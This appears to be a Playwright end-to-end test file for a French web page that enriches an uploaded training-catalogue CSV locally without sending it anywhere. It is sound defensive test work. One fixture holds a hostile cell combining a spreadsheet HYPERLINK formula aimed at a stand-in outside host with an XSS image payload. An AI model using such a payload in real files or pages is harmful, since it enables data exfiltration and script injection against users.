import { readFileSync } from 'node:fs';
import { join } from 'node:path';

import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';

import { findViolations } from './axe.ts';
import { launchBrowser } from './chromium.ts';

const PAGE = '/donnees/mon-catalogue/';
const siteUrl = inject('siteUrl');
let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

/** A cell that would run in a page, in a spreadsheet, and that no request may hold. */
const PIEGE = '=HYPERLINK("https://ailleurs.example/?secret";"<img src=x onerror=alert(1)>")';
const CATALOGUE = [
  'note;cfd;uai_formation',
  `"${PIEGE.replaceAll('"', '""')}";50022137;0359010D`,
  'zéro perdu;1022103;',
  'école seule;;0359010D',
  'inconnu;"<b>99999999</b>";',
  'rien;;',
];

interface Visite {
  page: Page;
  demandes: string[];
  plaintes: string[];
}

async function ouvrir(options: Parameters<Browser['newContext']>[0] = {}): Promise<Visite> {
  const context: BrowserContext = await browser.newContext(options);
  const demandes: string[] = [];
  const plaintes: string[] = [];
  context.on('request', (request) => demandes.push(`${request.method()} ${request.url()}${request.postData() ?? ''}`));
  const page = await context.newPage();
  page.on('console', (message) => message.type() === 'error' && plaintes.push(message.text()));
  page.on('pageerror', (error) => plaintes.push(error.message));
  await page.goto(siteUrl + PAGE);
  return { page, demandes, plaintes };
}

const donner = (page: Page, content: string | Buffer, name = 'mes formations.csv'): Promise<void> =>
  page
    .locator('input[type=file]')
    .setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.isBuffer(content) ? content : Buffer.from(content) });
const statut = (page: Page): Promise<string> => page.locator('[data-statut]').innerText();

describe('a catalogue dropped on the page', () => {
  test('gives its coverage by cause and its enriched file; nothing of it leaves', async () => {
    const { page, demandes, plaintes } = await ouvrir({ viewport: { width: 320, height: 800 } });
    await donner(page, CATALOGUE.join('\n'));
    await page.locator('[data-telecharger]').waitFor();
    expect(await statut(page)).toBe('5\u00a0lignes lues, 3 avec un chiffre publié.');
    const rows = await page
      .locator('[data-statut-de-ligne]')
      .evaluateAll((all) =>
        all.map((row) => [row.getAttribute('data-statut-de-ligne'), row.querySelector('td')?.textContent]),
      );
    expect(Object.fromEntries(rows)).toEqual({
      chiffre_france: '2',
      chiffre_ensemble_etablissement: '1',
      code_inconnu: '1',
      sans_code: '1',
    });
    await page.locator('[data-inconnus] summary').click();
    expect(await page.locator('[data-inconnus] li').allInnerTexts()).toEqual(['Ligne 5\u00a0: <b>99999999</b>']);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);

    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-telecharger]').click()]);
    expect(download.suggestedFilename()).toBe('mes formations-enrichi.csv');
    const lines = readFileSync(await download.path(), 'utf8')
      .trimEnd()
      .split('\n');
    for (const [rang, line] of CATALOGUE.entries()) expect(lines[rang]?.replace('\ufeff', '')).toContain(`${line};`);
    const twin = JSON.parse(
      readFileSync(join(inject('siteDir'), 'formations/cap-boulanger-50022137.json'), 'utf8'),
    ) as {
      titre: string;
      voies: { fiches: { maille: string; millesime: string; parts: { emploi: number } | null }[] }[];
    };
    expect(lines[1]).toContain(`;${twin.titre};${siteUrl}/formations/cap-boulanger-50022137/;`);
    expect(lines[1]).toMatch(/;true$/);

    expect(plaintes).toEqual([]);
    expect(demandes.filter((demande) => !demande.startsWith(`GET ${siteUrl}/`) && !demande.includes('blob:'))).toEqual(
      [],
    );
    const asked = demandes
      .filter((demande) => demande.includes('/api/'))
      .map((demande) => demande.split('/catalogue/')[1]);
    expect(asked.sort()).toEqual(
      [
        'codes/cfd.csv',
        'etablissements/035.csv',
        'formations.csv',
        'france.csv',
        'index.json',
        'regions/53.csv',
      ].sort(),
    );
    expect(demandes.join(' ')).not.toMatch(/50022137|1022103|0359010D|99999999|secret|ailleurs/i);
    await page.context().close();
  });

  test('has no accessibility violation once the result is there, light and dark', async () => {
    for (const colorScheme of ['light', 'dark'] as const) {
      const { page } = await ouvrir({ viewport: { width: 360, height: 800 }, colorScheme, bypassCSP: true });
      await donner(page, CATALOGUE.join('\n'));
      await page.locator('[data-telecharger]').waitFor();
      await page.locator('[data-inconnus] summary').click();
      expect(await findViolations(page)).toEqual([]);
      await page.context().close();
    }
  });

  test('can be dropped as well as chosen', async () => {
    const { page } = await ouvrir();
    const data = await page.evaluateHandle(() => {
      const transfer = new DataTransfer();
      transfer.items.add(new File(['cfd\n50022137\n'], 'x.csv'));
      return transfer;
    });
    await page.dispatchEvent('[data-depot]', 'drop', { dataTransfer: data });
    await page.locator('[data-telecharger]').waitFor();
    expect(await statut(page)).toContain('1 avec un chiffre');
    await page.context().close();
  });

  test.each([
    ['a spreadsheet', Buffer.from([0x50, 0x4b, 3, 4, 9]), /classeur.*Enregistrer sous/],
    ['no column of codes', 'titre;ville\nCAP;Rennes\n', /Attendu.*cfd.*Reçu.*titre.*ville.*ligne 1.*Que faire/],
    ['rows too long', 'cfd\n1;2\n', /Reçu.*1.ligne plus longue.*ligne 2/],
  ])('%s: says what was expected, received and what to do', async (_, content, message) => {
    const { page, demandes } = await ouvrir();
    await donner(page, content);
    await page.locator('[data-erreur]:not([hidden])').waitFor();
    expect(await page.locator('[data-erreur]').innerText()).toMatch(message);
    expect(await page.locator('[data-resultat]').innerText()).toBe('');
    expect(demandes.join(' ')).not.toContain('Rennes');
    // The next file wipes the fault.
    await donner(page, 'cfd\n50022137\n');
    await page.locator('[data-telecharger]').waitFor();
    expect(await page.locator('[data-erreur]').isVisible()).toBe(false);
    await page.context().close();
  });

  test('a long join is cancelled by keyboard: nothing is left, and the focus goes back to the file', async () => {
    const { page, plaintes } = await ouvrir();
    // A table of the site that does not come: the join waits.
    await page.context().route('**/api/catalogue/france.csv', () => undefined);
    await page.locator('input[type=file]').focus();
    await donner(page, 'cfd\n50022137\n');
    await page.locator('[data-annuler]').waitFor();
    await page.keyboard.press('Tab');
    expect(await page.locator('[data-annuler]:focus').count()).toBe(1);
    await page.keyboard.press('Enter');
    expect(await statut(page)).toContain('annulée');
    expect(await page.locator('progress').isVisible()).toBe(false);
    expect(await page.locator('input[type=file]:focus').count()).toBe(1);
    expect(plaintes).toEqual([]);
    await page.context().close();
  });

  test('a table that cannot be read is told', async () => {
    const { page } = await ouvrir();
    await page.context().route('**/api/catalogue/france.csv', (route) => route.abort());
    await donner(page, 'cfd\n50022137\n');
    await page.locator('[data-erreur]:not([hidden])').waitFor();
    expect(await page.locator('[data-erreur]').innerText()).toContain("n'ont pas pu être lus");
    await page.context().close();
  });
});

test('without JavaScript a sentence gives the command and the files', async () => {
  const { page } = await ouvrir({ javaScriptEnabled: false });
  expect(await page.locator('noscript').innerText()).toContain('demande JavaScript');
  expect(await page.locator('[data-outil]').isVisible()).toBe(false);
  expect(await page.locator('main').innerText()).toContain('npm run coverage -- catalogue.csv');
  expect(await page.locator('a[href="/api/catalogue/france.csv"]').isVisible()).toBe(true);
  await page.context().close();
});

test('a worker is allowed here and nowhere else', () => {
  const policy = (page: string): string | undefined =>
    /worker-src ([^;"]*)/.exec(readFileSync(join(inject('siteDir'), page, 'index.html'), 'utf8'))?.[1];
  expect([PAGE, '/recherche/', '/', '/donnees/', '/comparer/'].map(policy)).toEqual([
    "'self'",
    "'none'",
    "'none'",
    "'none'",
    "'none'",
  ]);
});
